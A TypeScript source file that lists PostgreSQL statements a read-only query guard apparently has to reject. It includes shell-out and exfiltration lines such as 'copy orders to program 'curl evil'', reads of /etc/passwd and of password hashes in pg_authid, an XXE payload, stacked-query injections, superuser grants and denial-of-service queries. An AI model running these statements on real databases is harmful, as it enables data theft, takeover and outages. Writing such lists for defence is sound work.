/** Statements that must not reach a customer's database, by what they try. Some are written out, some are one trick on many targets. */
const each = (members: string, statement: (member: string) => string): string[] =>
  members.trim().split(/\s+/).map(statement);

/** Calls whose arguments do not matter: the name alone is reason enough. */
const CALLS = `
  pg_sleep(3600) pg_sleep_for('1_hour') pg_sleep_until('2100-01-01') pg_read_file('/etc/passwd') pg_read_binary_file('/etc/passwd')
  pg_ls_dir('/') pg_ls_logdir() pg_ls_waldir() pg_stat_file('/etc/passwd') pg_terminate_backend(1) pg_cancel_backend(1)
  pg_reload_conf() pg_rotate_logfile() pg_switch_wal() pg_create_restore_point('x') pg_advisory_lock(1) pg_advisory_xact_lock(1)
  pg_try_advisory_lock(1) pg_notify('a','b') set_config('statement_timeout','0',false) current_setting('data_directory')
  lo_import('/etc/passwd') lo_export(1,'/tmp/x') lo_create(0) lo_from_bytea(0,'x') lo_unlink(1) lo_get(1) loread(1,10) lowrite(1,'x')
  query_to_xml('drop_table_t',true,false,'') query_to_xml_and_xmlschema('select_1',true,false,'') table_to_xml('t',true,false,'')
  schema_to_xml('public',true,false,'') database_to_xml(true,false,'') cursor_to_xml('c',1,true,false,'') ts_stat('select_1')
  ts_rewrite('a'::tsquery,'select_1') nextval('s') setval('s',1) currval('s') lastval() setseed(0.5) txid_current()
  pg_current_xact_id() pg_export_snapshot() pg_logical_slot_get_changes('s',null,null) pg_create_logical_replication_slot('s','p')
  pg_drop_replication_slot('s') pg_get_functiondef(1) pg_get_viewdef(1) pg_get_userbyid(10) pg_show_all_settings()
  pg_stat_get_activity(null) pg_stat_reset() pg_promote() pg_backup_start('x') pg_log_backend_memory_contexts(1)
  inet_server_addr() inet_client_addr() version() pg_postmaster_start_time() has_table_privilege('t','select')
  dblink('host=x','select_1') dblink_connect('host=x') dblink_exec('host=x','drop_table_t') postgres_fdw_get_connections()
  crosstab('select_1') pg_file_write('/tmp/x','y',false) pg_stat_statements_reset() plpgsql_call_handler()
  xpath('/a','<a/>'::text) binary_upgrade_set_next_pg_type_oid(1) pg_hba_file_rules() pg_import_system_collations('public')
  factorial(100000) array_fill(1,array[100000000]) evil() make_me_admin()`;

const SECRETS = `
  pg_authid pg_shadow pg_user_mapping pg_user_mappings pg_subscription pg_largeobject pg_largeobject_metadata pg_statistic
  pg_statistic_ext_data pg_stats pg_stats_ext pg_stats_ext_exprs pg_hba_file_rules pg_ident_file_mappings pg_file_settings pg_settings
  pg_stat_activity pg_stat_replication pg_stat_ssl pg_stat_gssapi pg_stat_statements pg_roles pg_user pg_group pg_auth_members
  pg_db_role_setting pg_prepared_statements pg_prepared_xacts pg_cursors pg_locks pg_proc pg_foreign_server pg_replication_slots
  pg_publication pg_policies pg_seclabels pg_config pg_shmem_allocations pg_backend_memory_contexts pg_stat_subscription`;

const WRITES = [
  "insert into orders values (1)",
  "insert into orders select * from orders returning 1",
  "update orders set total = 0",
  "delete from orders",
  "merge into orders o using orders p on o.id = p.id when matched then delete",
  "truncate orders",
  "drop table orders",
  "drop schema public cascade",
  "create table t (a int)",
  "create temp table t as select 1",
  "create view v as select 1",
  "create function f() returns int language sql as 'select 1'",
  "create extension dblink",
  "create role root superuser",
  "create server s foreign data wrapper postgres_fdw",
  "create publication p for all tables",
  "create subscription s connection 'host=x' publication p",
  "alter table orders add column x int",
  "alter role postgres superuser",
  "alter system set archive_command = 'sh'",
  "alter database postgres set search_path = evil",
  "grant all on orders to public",
  "revoke all on orders from public",
  "comment on table orders is 'x'",
  "security label on table orders is 'x'",
  "reindex table orders",
  "cluster orders",
  "vacuum orders",
  "analyze orders",
  "refresh materialized view m",
  "import foreign schema x from server s into public",
];

const SESSIONS = [
  "copy orders to '/tmp/x'",
  "copy orders to program 'curl evil'",
  "copy orders from program 'sh'",
  "copy (select 1) to stdout",
  "do $$ begin perform pg_sleep(9); end $$",
  "call refresh_everything()",
  "explain select 1",
  "explain analyze delete from orders",
  "set statement_timeout = 0",
  "set role postgres",
  "set session authorization postgres",
  "reset all",
  "show all",
  "show data_directory",
  "begin",
  "commit",
  "rollback",
  "savepoint a",
  "prepare transaction 'x'",
  "prepare p as select 1",
  "execute p",
  "deallocate all",
  "declare c cursor with hold for select 1",
  "fetch all from c",
  "close all",
  "listen x",
  "notify x",
  "unlisten *",
  "lock table orders in access exclusive mode",
  "load 'evil.so'",
  "discard all",
  "checkpoint",
  "start transaction read write",
];

const HIDDEN = [
  "select 1; select 2",
  "select 1; drop table orders",
  "select 1;;; delete from orders",
  "select count(*) from orders; commit; drop table orders",
  "select 1 -- ok\n; drop table orders",
  "select 1 /* ok */ ; /* ok */ truncate orders",
  "select '\\'; drop table orders; --",
  "select 1\0; drop table orders",
  "with gone as (delete from orders returning *) select count(*) from gone",
  "with made as (insert into orders values (1) returning *) select count(*) from made",
  "with changed as (update orders set total = 0 returning *) select count(*) from changed",
  "with a as (with b as (delete from orders returning 1) select * from b) select count(*) from a",
  "with m as (merge into orders o using orders p on false when not matched then do nothing returning 1) select count(*) from m",
  "select * into stolen from orders",
  "select 1 into temp stolen",
  "select 1 union all (select 2 into stolen)",
  "select id from orders for update",
  "select id from orders for no key update skip locked",
  "select id from orders for share",
  "select id from orders for key share nowait",
  "select count(*) from (select id from orders for update) o",
  "with o as (select id from orders for update) select count(*) from o",
  "select count(*) from orders where exists (select from orders o for share)",
  "select public.count(1)",
  "select evil.lower('x')",
  'select "COUNT"(1) from orders',
  'select "pg_sleep"(10)',
  'select U&"\\0070g_sleep"(10)',
  "select PG_SLEEP(10)",
  "select pg_catalog.pg_sleep(10)",
  "select pg_catalog . pg_sleep ( 10 )",
  "select case when true then pg_sleep(10) end",
  "select count(*) filter (where pg_sleep(1) is null) from orders",
  "select count(*) over (order by pg_sleep(1)) from orders",
  "select count(*) from orders order by pg_sleep(1)",
  "select count(*) from orders limit (select pg_sleep(10)::text::int)",
  "select count(*) from orders group by pg_sleep(1)",
  "select count(*) from orders having pg_sleep(1) is null",
  "select count(*) from orders join lateral pg_sleep(1) on true",
  "select count(*) from rows from (pg_ls_dir('/')) f",
  "select count(*) from orders tablesample evil(1)",
  "select count(*) from orders tablesample public.system(1)",
  "select array[pg_sleep(1)]",
  "select (array[1])[pg_sleep(1)::text::int]",
  "select row(pg_sleep(1))",
  "select coalesce(null, lo_create(0))",
  "select greatest(1, lo_create(0))",
  "select nullif(1, lo_create(0))",
  "values (pg_sleep(10))",
  "select 1 operator(public.+) 2",
  "select 1 operator(evil.=) any (array[1])",
  "select 'pg_authid'::regclass",
  "select 'evil'::regprocedure",
  "select 'postgres'::regrole",
  "select cast('x' as evil.domain)",
  "select evil_type 'x'",
  "select '<a/>'::xml",
  "select xmlparse(document '<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>')",
  "select xmlelement(name a, 1)",
  "select current_user",
  "select session_user",
  "select current_catalog",
  "select $1",
  "table pg_authid",
  "select rolpassword from pg_catalog.pg_authid",
  'select count(*) from "pg_authid"',
  "select (select passwd from pg_shadow limit 1)",
  "select count(*) from orders, pg_catalog.pg_user_mapping",
  "select count(*) from pg_toast.pg_toast_2619",
  "select count(*) from pg_temp.x",
  "select count(*) from information_schema.user_mapping_options",
  "select count(*) from information_schema.foreign_server_options",
  "select count(*) from information_schema.routines",
  "select count(*) from information_schema.applicable_roles",
  "select repeat('x', 1000000000)",
  "select lpad('x', 1000000000)",
  "select length(rpad('x', 900000000, 'y'))",
  "select repeat('x', (select max(id) from orders))",
  "select count(*) from generate_series(1, 1000000000000)",
  "select count(*) from generate_series(1, 10000) a, generate_series(1, 10000) b, generate_series(1, 10000) c",
  "select count(*) from generate_series(1, 10, 0)",
  "select count(*) from generate_series(1, (select max(id) from orders))",
  "select count(*) from generate_series('2000-01-01'::timestamp, '2100-01-01', interval '1 microsecond')",
  "with recursive t(n) as (select 1 union all select n + 1 from t) select count(*) from t",
  "with recursive t(n) as (select 1 union all select n from t) select max(n) from t",
  `select ${"(select ".repeat(2_000)}1${")".repeat(2_000)}`,
  `select ${"1 + ".repeat(6_000)}1`,
  "",
  "   ",
  ";",
  "-- nothing",
  "selec count(*) from orders",
  "select count(* from orders",
  "\\copy orders to '/tmp/x'",
  "\\! sh",
];

export const SQL_ATTACKS: readonly string[] = [
  ...WRITES,
  ...SESSIONS,
  ...HIDDEN,
  ...each(CALLS, (call) => `select ${call}`),
  ...each("pg_sleep(1) lo_create(0) evil()", (call) => `select count(*) from orders where ${call} is null`),
  ...each(SECRETS, (relation) => `select count(*) from ${relation}`),
  ...each(
    "pg_authid pg_shadow pg_stats pg_settings",
    (relation) => `with x as (select * from pg_catalog.${relation}) select count(*) from x`,
  ),
];
